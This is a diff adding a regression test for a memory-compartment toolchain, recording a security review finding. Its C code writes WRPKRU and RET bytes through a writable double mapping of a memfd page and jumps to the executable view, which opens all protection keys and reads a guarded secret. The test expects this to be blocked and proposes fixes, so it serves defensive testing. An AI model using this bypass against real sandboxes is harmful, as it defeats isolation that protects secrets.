@@ -1,0 +1,66 @@
+// Review 28, attacker model B (the default domain's program counter; the
+// attack itself is stores and a jump, no system call). Both gadget scans
+// walk /proc/self/maps and stop the program on memory that is writable
+// and executable (review 27), one mapping at a time; a file mapped twice,
+// one view writable and one executable (a JIT's W^X double mapping of a
+// memfd), is both, and neither view is refused: the executable one is
+// searched once, empty, and what is stored through the other view later
+// shows up in it. The filter sees no call: the pages are mapped already.
+//
+// Here Inputs/rev28-dual-map.c, a start-up library, maps a memfd page
+// twice in its constructor. main stores WRPKRU; RET through the writable
+// view (the bytes computed, so the program holds none) and jumps to the
+// executable one with eax = ecx = edx = 0: every key opens and the
+// vault's secret reads (ATTACK SUCCEEDED).
+//
+// Seen in the guest: ATTACK SUCCEEDED.
+//
+// Suggested fix: the maps walks refuse an executable shared mapping
+// (perms "r-xs": its file can change under it) unless it is a sealed
+// memfd (F_SEAL_WRITE, as supervisor-sealed.c makes them) or a start-up
+// object's file that supervisor-own.c made private copies of; or look up
+// each executable mapping's file (/proc/self/map_files) for another
+// writable shared mapping of it.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: rm -rf %t && mkdir -p %t
+// RUN: %clang -O1 -shared -fPIC %S/Inputs/rev28-dual-map.c -o %t/libdual.so
+// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -L%t -Wl,--no-as-needed -ldual -Wl,-rpath,%t -o %t/prog
+// RUN: %run %t/prog > %t/out 2>&1 || true
+// RUN: FileCheck %s < %t/out
+// CHECK: two views found: 1
+// CHECK-NOT: ATTACK SUCCEEDED
+#include <bulkhead.h>
+#include <stdio.h>
+#include <string.h>
+
+BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
+BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }
+
+extern void *rev28_rw, *rev28_rx;
+static volatile unsigned char op = 0xee;
+
+int main(void) {
+  printf("vault says %d\n", vault_len());
+  printf("two views found: %d\n", rev28_rw && rev28_rx);
+  fflush(stdout);
+  if (!rev28_rw || !rev28_rx)
+    return 1;
+  unsigned char *w = rev28_rw; /* the stores: WRPKRU; RET */
+  w[0] = 0x0f, w[1] = 0x01, w[2] = (unsigned char)(op + 1), w[3] = 0xc3;
+  void *code = rev28_rx;
+  static char copy[32];
+  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\t"
+                   "xorl %%edx, %%edx\n\tcall *%0\n\t"
+                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\t"
+                   "movl $31, %%ecx\n\trep movsb"
+                   :
+                   : "r"(code), "r"(secret), "r"(copy)
+                   : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10",
+                     "r11", "memory");
+  if (strstr(copy, "TOP-SECRET"))
+    printf("ATTACK SUCCEEDED: the vault's secret read: %s\n", copy);
+  else
+    printf("attack failed\n");
+  return 0;
+}
